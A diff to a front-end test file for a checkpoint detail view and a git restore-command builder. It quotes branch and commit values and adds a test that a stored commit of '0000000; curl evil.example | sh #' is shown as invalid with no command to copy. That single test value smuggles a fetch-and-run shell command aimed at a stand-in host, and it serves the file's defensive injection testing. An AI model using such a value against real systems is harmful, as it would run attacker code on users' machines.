@@ -140,9 +140,9 @@ describe("CheckpointDetail code", () => {
     expect(within(code).getByText("main")).toBeTruthy();
     expect(within(code).getByText("dirty")).toBeTruthy();
     const want =
-      "git stash push -u -m smriti-restore && git switch main && git reset --keep " +
+      "git stash push -u -m smriti-restore && git switch -- 'main' && git reset --keep '" +
       COMMIT +
-      "   # the checkpoint saw uncommitted changes (diff 999999999999) that git cannot bring back";
+      "' --   # the checkpoint saw uncommitted changes (diff 999999999999) that git cannot bring back";
     const field = within(code).getByLabelText(/To get the code there/) as HTMLInputElement;
     expect(field.value).toBe(want);
     expect(field.readOnly).toBe(true);
@@ -157,12 +157,20 @@ describe("CheckpointDetail code", () => {
     expect(within(code).getByText("detached")).toBeTruthy();
     expect(within(code).getByText("clean")).toBeTruthy();
     expect((within(code).getByLabelText(/To get the code there/) as HTMLInputElement).value).toBe(
-      "git stash push -u -m smriti-restore && git switch --detach " + COMMIT,
+      "git stash push -u -m smriti-restore && git switch --detach -- '" + COMMIT + "'",
     );
   });
 
+  it("shows a stored git state that git never writes as invalid, with no command to copy", async () => {
+    renderDetail({ ...checkpoint([]), metadata: { git: { commit: "0000000; curl evil.example | sh #", branch: "main", dirty: false, diff_sha256: "" } } });
+    const code = await screen.findByTestId("checkpoint-code");
+    expect(within(code).getByTestId("git-invalid").textContent).toContain("invalid git state");
+    expect(within(code).queryByRole("button", { name: "Copy" })).toBeNull();
+    expect(code.textContent).not.toContain("curl");
+  });
+
   it("has no code section when the checkpoint recorded no git state", async () => {
-    renderDetail({ ...checkpoint([]), metadata: { git: { branch: "main" } } });
+    renderDetail({ ...checkpoint([]), metadata: {} });
     await screen.findByText("Go by train");
     expect(screen.queryByTestId("checkpoint-code")).toBeNull();
   });
@@ -171,7 +179,7 @@ describe("CheckpointDetail code", () => {
 describe("restoreCommand", () => {
   it("switches to the branch and resets it to the commit, as smriti restore prints", () => {
     expect(restoreCommand({ commit: COMMIT, branch: "feat/x", dirty: false, diff_sha256: "" })).toBe(
-      "git stash push -u -m smriti-restore && git switch feat/x && git reset --keep " + COMMIT,
+      "git stash push -u -m smriti-restore && git switch -- 'feat/x' && git reset --keep '" + COMMIT + "' --",
     );
   });
 });
